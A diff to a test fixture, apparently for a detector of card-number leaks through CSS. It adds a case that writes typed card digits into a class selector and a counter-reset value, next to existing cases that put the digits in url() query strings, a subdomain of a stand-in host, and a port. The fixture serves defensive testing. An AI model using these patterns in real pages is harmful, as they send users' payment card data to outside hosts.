@@ -8,7 +8,8 @@
  * URL's digits that share 3 in a row with the typed value, an escape that
  * writes a digit, and every other digit written in a string. A URL's scheme,
  * userinfo and host are checked like its path, and its port unless it is a
- * valid port that is not a part of the typed digits (review s11 F1).
+ * valid port that is not a part of the typed digits (review s11 F1); a selector and a plain value
+ * (`.c4532…{counter-reset:n 4532…}`) too (review s11 F8).
  * Oracle: the independent leak finder (test/oracles/leak-finder.ts) over
  * every decoded string sent, and plain searches; control: the same finder
  * over what the page wrote into its CSS (the typed card is there).
@@ -35,7 +36,8 @@ const PAGE = `<!DOCTYPE html><html><head><style id="css"></style></head><body>
       '.brand{background:url("/cards/preview.png?n=' + digits + '")}.u{background:url(/u.png?n=' + digits + ')}' +
       ':root{--m: ' + digits + '; --gap: 12px; --bg: url(/files/1/0262/4071/2726/x.png)}' +
       '.host{background:url("https://c' + digits + '.img.example/logo.png")}' +
-      '.port{background:url("https://img.example:' + digits.slice(0, 5) + '/logo.png")}';
+      '.port{background:url("https://img.example:' + digits.slice(0, 5) + '/logo.png")}' +
+      '.c' + digits + '{counter-reset:n ' + digits + '}';
     document.getElementById('badge').setAttribute('style',
       'background-image:url("img/2x/chip-64.png"); --n: "' + digits + '"; background-position: url("p.png?c=' + digits + '")');
   };
